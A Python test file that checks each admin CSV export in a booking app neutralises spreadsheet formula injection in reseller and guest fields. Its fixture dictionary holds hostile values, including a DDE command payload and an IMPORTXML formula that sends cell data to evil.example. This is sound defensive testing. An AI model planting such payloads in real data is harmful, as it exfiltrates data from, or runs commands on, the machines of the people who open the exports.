"""Every CSV export, found from the app's route table, guards what resellers and guests wrote
against spreadsheet formulas, and starts with a UTF-8 byte order mark (issue 32)."""

from __future__ import annotations

import csv
import io
import re
import uuid
from typing import Any

import httpx
from fastapi import FastAPI

from berth.container import Services
from berth.views.exports import FORMULA_STARTS
from tests.backoffice.helpers import sign_in
from tests.builders import load
from tests.conftest import ADMIN, auth
from tests.pickups_helpers import COACH, DEPARTURE, GRAND, MEET, pickups_catalog
from tests.routes import routes_of

# One hostile value per field a reseller or a guest fills in, each with another formula start.
HOSTILE = {
    "resellerReference": '=HYPERLINK("http://evil.example","click")',
    "firstName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lastName": "-2+3",
    "fullName": "=1+1",
    "emailAddress": "+x@example.com",
    "phoneNumber": "+447700900001",
    "notes": "\t=cmd",
    "pickupHotel": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "pickupHotelRoom": "\r=1",
    "reason": "-cancelled =1",
}
CAPABILITIES = "octo/pickups"


def admin_get_paths(app: FastAPI) -> list[str]:
    return sorted(
        {path for path, methods in routes_of(app.routes) if "GET" in methods and path.startswith("/admin")}
    )


def filled(path: str, values: dict[str, str]) -> str | None:
    """The path with its parameters filled from `values` (by their names, in any spelling), or
    None when one is not known."""
    names = re.findall(r"{(\w+)(?::\w+)?}", path)
    if any(re.sub(r"[_]", "", n).lower() not in values for n in names):
        return None
    return re.sub(r"{(\w+)(?::\w+)?}", lambda m: values[re.sub(r"[_]", "", m[1]).lower()], path)


async def _book(client: httpx.AsyncClient, product: dict[str, str], pickup: dict[str, Any]) -> dict[str, Any]:
    contact = {k: HOSTILE[k] for k in ("firstName", "lastName", "emailAddress", "phoneNumber", "notes")}
    body = {
        "uuid": str(uuid.uuid4()),
        **product,
        "availabilityId": DEPARTURE,
        "resellerReference": HOSTILE["resellerReference"],
        "unitItems": [{"unitId": "adult"}, {"unitId": "adult"}],
        **pickup,
    }
    headers = auth(capabilities=CAPABILITIES)
    held = await client.post("/octo/bookings", json=body, headers=headers)
    assert held.status_code == 200, held.text
    confirmed = await client.post(
        f"/octo/bookings/{held.json()['uuid']}/confirm", json={"contact": contact}, headers=headers
    )
    assert confirmed.status_code == 200, confirmed.text
    return dict(confirmed.json())


async def test_every_csv_route_guards_hostile_text(
    app: FastAPI, client: httpx.AsyncClient, services: Services
) -> None:
    await load(services, pickups_catalog())
    await _book(client, COACH, {"pickupPointId": GRAND})
    hotel = {
        "pickupRequested": True,
        "pickupHotel": HOSTILE["pickupHotel"],
        "pickupHotelRoom": HOSTILE["pickupHotelRoom"],
    }
    await _book(client, MEET, hotel)
    cancelled = await _book(client, COACH, {"pickupPointId": GRAND})
    contact_named = await _book(client, MEET, hotel)
    headers = auth(capabilities=CAPABILITIES)
    gone = await client.post(
        f"/octo/bookings/{cancelled['uuid']}/cancel", json={"reason": HOSTILE["reason"]}, headers=headers
    )
    assert gone.status_code == 200, gone.text
    named = await client.patch(
        f"/octo/bookings/{contact_named['uuid']}",
        json={"contact": {"fullName": HOSTILE["fullName"]}},
        headers=headers,
    )
    assert named.status_code == 200, named.text
    await sign_in(client)

    found: dict[str, str] = {}
    for option in (COACH["optionId"], MEET["optionId"]):
        values = {
            "productid": COACH["productId"], "optionid": option, "availabilityid": DEPARTURE,
        }  # fmt: skip
        for path in admin_get_paths(app):
            url = filled(path, values)
            if url is None:
                continue
            response = await client.get(url, headers=ADMIN if path.startswith("/admin/api") else {})
            if response.headers.get("content-type", "").startswith("text/csv"):
                assert response.status_code == 200, (url, response.text)
                found[url] = response.content.decode("utf-8")

    # The five known exports, each for both options (their CSV routes found, not listed here).
    assert len(found) >= 10, sorted(found)
    written: set[str] = set()
    for url, text in found.items():
        assert text.startswith("\ufeff"), url
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (url, cell)
                written.add(cell)
    for field, value in HOSTILE.items():
        if field in ("firstName", "lastName", "notes"):
            continue  # no column of their own: the lead guest's name is checked below
        assert "'" + value in written, (field, value)
    assert "'" + HOSTILE["firstName"] + " " + HOSTILE["lastName"] in written
